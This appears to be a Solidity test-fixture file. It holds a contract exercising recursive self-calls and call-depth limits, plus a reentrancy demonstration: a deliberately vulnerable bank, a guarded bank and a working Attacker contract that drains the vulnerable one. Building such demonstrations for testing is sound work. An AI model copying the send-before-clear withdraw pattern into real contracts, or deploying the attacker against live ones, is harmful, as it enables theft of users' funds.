// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

/// @title Recursive
/// @notice External self-calls (`this.f()`): every level is a new actor invocation of the same
/// contract, bounded by the FVM call depth of 1024.
contract Recursive {
    mapping(uint256 level => bool) public marked;

    /// Calls itself `n` levels deep and returns the depth reached; any failure reverts all.
    function recurse(uint256 n) external returns (uint256 depth) {
        if (n == 0) return 0;
        return this.recurse(n - 1) + 1;
    }

    /// Like `recurse`, but a failed nested call (e.g. the call-depth limit) is caught: returns
    /// how many nested levels actually succeeded.
    function probeDepth(uint256 n) external returns (uint256 depth) {
        if (n == 0) return 0;
        try this.probeDepth(n - 1) returns (uint256 d) {
            return d + 1;
        } catch {
            return 0;
        }
    }

    /// Sets `marked[n]`, reverts if `n == failAt`, otherwise recurses into `n - 1` with the failure
    /// caught. Afterwards `marked[i]` is true exactly for `failAt < i <= n`: a revert undoes only
    /// the failing level and the levels below it.
    function markAll(uint256 n, uint256 failAt) external {
        marked[n] = true;
        if (n == failAt) revert("Recursive: fail");
        if (n > 0) {
            try this.markAll(n - 1, failAt) {} catch {}
        }
    }
}

/// The interface both banks share.
interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

/// @title VulnerableBank
/// @notice Sends before it clears the balance: reentrancy drains it.
contract VulnerableBank is IBank {
    mapping(address account => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "Bank: nothing to withdraw");
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "Bank: send failed");
        balances[msg.sender] = 0;
    }
}

/// @title GuardedBank
/// @notice Clears the balance before sending and holds a reentrancy lock.
contract GuardedBank is IBank {
    mapping(address account => uint256) public balances;
    bool private locked;

    modifier nonReentrant() {
        require(!locked, "Bank: reentrant call");
        locked = true;
        _;
        locked = false;
    }

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external nonReentrant {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "Bank: nothing to withdraw");
        balances[msg.sender] = 0;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "Bank: send failed");
    }
}

/// @title Attacker
/// @notice Deposits into a bank, withdraws, and from `receive()` re-enters `withdraw()` up to
/// `maxReentries` times. A failed re-entry is caught and recorded in `reentryBlocked`.
/// Against `VulnerableBank` with deposit D and bank balance B, the attacker ends holding
/// D * (1 + reentries); against `GuardedBank` it gets D back and `reentryBlocked` is true.
contract Attacker {
    IBank public immutable bank;
    uint256 public maxReentries;
    uint256 public reentries;
    bool public reentryBlocked;

    constructor(address bank_) {
        bank = IBank(bank_);
    }

    function attack(uint256 maxReentries_) external payable {
        maxReentries = maxReentries_;
        reentries = 0;
        reentryBlocked = false;
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (msg.sender == address(bank) && reentries < maxReentries && address(bank).balance >= msg.value) {
            reentries++;
            try bank.withdraw() {} catch {
                reentryBlocked = true;
            }
        }
    }
}
